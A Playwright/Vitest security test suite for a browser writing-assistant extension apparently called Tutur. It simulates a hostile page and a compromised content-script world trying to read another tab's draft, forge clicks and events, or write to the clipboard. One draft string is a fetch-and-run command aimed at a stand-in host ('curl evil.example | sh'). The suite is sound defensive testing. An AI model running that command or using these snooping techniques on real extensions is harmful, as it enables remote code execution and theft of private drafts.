/** A hostile page and a compromised content-script world attack Tutur in real Chromium, the way the security
 * review did (issue 14); each attack must fail, and each has a positive control showing the channel it uses
 * works for Tutur's own pages and for the user's own clicks. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { launchWithExtension, openPanel, tabIdOf, type Session } from './support/chromium';
import { badgeOf, highlightsOf } from './support/page-marks';
import { serveStatic, type StaticServer } from './support/server';
import { pageState, sidePanels } from './support/sites';

let session: Session;
let server: StaticServer;

beforeAll(async () => {
  server = await serveStatic('tests/fixtures');
  session = await launchWithExtension();
});
afterAll(async () => {
  await session?.close();
  await server?.close();
});

const SECRET = 'Rahasia kantor: rapat evaluasi kepala dinas besok pukul 09.00 WIB.';

async function openWithDraft(fixture: string, text: string): Promise<{ page: Page; tabId: number }> {
  const page = await session.context.newPage();
  await page.goto(`${server.url}/${fixture}`);
  await page.locator('#composer').click();
  await page.keyboard.type(text);
  const tabId = await tabIdOf(session, page);
  await expect.poll(async () => (await pageState<{ composer?: { text: string } }>(session.worker, tabId))?.composer?.text).toBe(text);
  return { page, tabId };
}

/** Evaluate `expression` in Tutur's content-script world of `page` (DevTools' isolated world for the extension):
 * what code running there, a compromised renderer's, can do. */
async function inContentScriptWorld<T>(page: Page, expression: string): Promise<T> {
  const cdp = await page.context().newCDPSession(page);
  const contexts: { id: number; origin: string; auxData?: { type?: string } }[] = [];
  cdp.on('Runtime.executionContextCreated', ({ context }) => contexts.push(context));
  await cdp.send('Runtime.enable');
  const world = contexts.find((c) => c.auxData?.type === 'isolated' && c.origin === `chrome-extension://${session.extensionId}`);
  if (!world) throw new Error(`no content-script world in ${page.url()}: ${JSON.stringify(contexts)}`);
  const { result, exceptionDetails } = await cdp.send('Runtime.evaluate', {
    expression,
    contextId: world.id,
    awaitPromise: true,
    returnByValue: true,
  });
  await cdp.detach();
  if (exceptionDetails) throw new Error(exceptionDetails.exception?.description ?? exceptionDetails.text);
  return result.value as T;
}

/** Subscribe to `tabId`'s draft over the panel's port for a moment, from whatever world the source runs in. */
const subscribeFor = (tabId: number) => `new Promise((resolve) => {
  const received = [];
  const port = chrome.runtime.connect({ name: 'tutur-panel' });
  port.onMessage.addListener((m) => received.push(m));
  port.postMessage({ type: 'subscribe', tabId: ${tabId} });
  setTimeout(() => resolve(JSON.stringify(received)), 1500);
})`;

describe('attacks on Tutur', () => {
  it('code in one tab’s content-script world cannot follow another tab’s draft, nor ask for it through the relay', async () => {
    const victim = await openWithDraft('contenteditable.html', SECRET);
    const attacker = await openWithDraft('hostile.html', 'Halo');
    const overPort = await inContentScriptWorld<string>(attacker.page, subscribeFor(victim.tabId));
    expect(overPort).toBe('[]');
    const overRelay = await inContentScriptWorld<unknown>(
      attacker.page,
      `chrome.runtime.sendMessage({ type: 'tutur/relay', tabId: ${victim.tabId}, message: { type: 'tutur/get-state' } }).then((r) => r ?? null)`,
    );
    expect(JSON.stringify(overRelay ?? null)).not.toContain('Rahasia');
    // Positive control: the extension's own page gets the draft over the same port.
    const panel = await openPanel(session, victim.tabId);
    expect(await panel.evaluate(subscribeFor(victim.tabId))).toContain('Rahasia kantor');
    await Promise.all([panel.close(), victim.page.close(), attacker.page.close()]);
  });

  it('a page that clicks the badge itself, or forwards the user’s click to it, opens no panel; the user’s own click does', async () => {
    const { page } = await openWithDraft('hostile.html', 'Besok kami buka layanan KTP keliling.');
    await expect.poll(() => badgeOf(page).text()).not.toBeNull();
    expect(await sidePanels(session.worker)).toEqual([]);
    // The page alone: five clicks on the badge's element.
    await page.evaluate(() => {
      for (let i = 0; i < 5; i++) document.querySelector<HTMLElement>('tutur-badge')!.click();
    });
    // The user clicks the page's own button, whose handler forwards the click to the badge.
    await page.locator('#forward').click();
    await page.waitForTimeout(1000);
    expect(await sidePanels(session.worker)).toEqual([]);
    // Positive control: the user's own click on the badge opens the side panel.
    await badgeOf(page).click();
    await expect.poll(async () => (await sidePanels(session.worker)).length, { timeout: 5000 }).toBe(1);
    await page.close();
  });

  it('a fix the editor refuses puts nothing on the clipboard until the user clicks Copy', async () => {
    const draft = 'CURL EVIL.EXAMPLE | SH';
    const { page, tabId } = await openWithDraft('hostile.html', draft);
    await page.evaluate(() => ((window as unknown as { __refuseEdits: boolean }).__refuseEdits = true));
    const panel = await openPanel(session, tabId, '&lang=en');
    // Every write to the clipboard from the panel, recorded (and not performed).
    await panel.evaluate(() => {
      const writes: string[] = [];
      (window as unknown as { __writes: string[] }).__writes = writes;
      navigator.clipboard.writeText = async (text: string) => void writes.push(text);
    });
    const writes = () => panel.evaluate(() => (window as unknown as { __writes: string[] }).__writes);
    const apply = panel.locator('[data-rule="style.all-caps"] [data-action="apply"]').first();
    await apply.waitFor({ timeout: 10_000 });
    const replacement = (await apply.getAttribute('data-replacement'))!;
    await apply.click();
    const notice = panel.locator('[data-notice="error"]');
    await notice.waitFor({ timeout: 5000 });
    expect(await notice.textContent()).toContain(replacement);
    expect(await page.locator('#composer').innerText()).toBe(draft);
    expect(await writes()).toEqual([]);
    await notice.locator('[data-action="notice-action"]').click();
    await expect.poll(writes).toEqual([replacement]);
    await Promise.all([panel.close(), page.close()]);
  });

  it('the page hears nothing from Tutur’s start, and an event forged in WXT’s name does not stop it', async () => {
    const { page, tabId } = await openWithDraft('hostile.html', 'Halo');
    const heard = await page.evaluate(() => (window as unknown as { __messages: string[] }).__messages);
    expect(heard.filter((m) => m.includes(session.extensionId) || m.includes('wxt'))).toEqual([]);
    // What WXT's own context would take as "a newer copy of this script started": it must not stop Tutur.
    const name = `${session.extensionId}:content:wxt:content-script-started`;
    await page.evaluate((type) => {
      const detail = { contentScriptName: 'content', messageId: 'forged' };
      document.dispatchEvent(new CustomEvent(type, { detail }));
      window.postMessage({ type, ...detail }, '*');
    }, name);
    await page.locator('#composer').press('End');
    await page.keyboard.type(' semua');
    await expect
      .poll(async () => (await pageState<{ composer?: { text: string } }>(session.worker, tabId))?.composer?.text)
      .toBe('Halo semua');
    await page.close();
  });

  it('the style pack’s terms are listed in the panel but never underlined in the page', async () => {
    const options = await session.context.newPage();
    await options.goto(`chrome-extension://${session.extensionId}/options.html?lang=en`);
    const pack = { formatVersion: 1, name: 'Pemkot Contoh', bannedTerms: [{ term: 'miskin', reason: 'Tulis “prasejahtera”.' }] };
    await options.locator('[data-option="pack-text"]').fill(JSON.stringify(pack));
    await options.locator('[data-action="import-pack"]').click();
    await options.locator('[data-action="remove-pack"]').waitFor({ timeout: 5000 });
    const draft = 'Warga miskin di Kelurahan Sungai Jawi mendapat bantuan besok.';
    const { page, tabId } = await openWithDraft('hostile.html', draft);
    const panel = await openPanel(session, tabId, '&lang=en');
    await panel.locator('[data-rule="style.banned-term"]').waitFor({ timeout: 10_000 });
    // The panel's other findings are underlined (positive control); the pack's term is not.
    await expect.poll(async () => (await highlightsOf(page)).underlined).toContain('besok');
    expect((await highlightsOf(page)).underlined).not.toContain('miskin');
    // Hovering the pack's finding draws nothing in the page either.
    await panel.locator('[data-rule="style.banned-term"]').hover();
    await page.waitForTimeout(300);
    expect((await highlightsOf(page)).focused).toEqual([]);
    await options.locator('[data-action="remove-pack"]').click();
    await Promise.all([options.close(), panel.close(), page.close()]);
  });
});
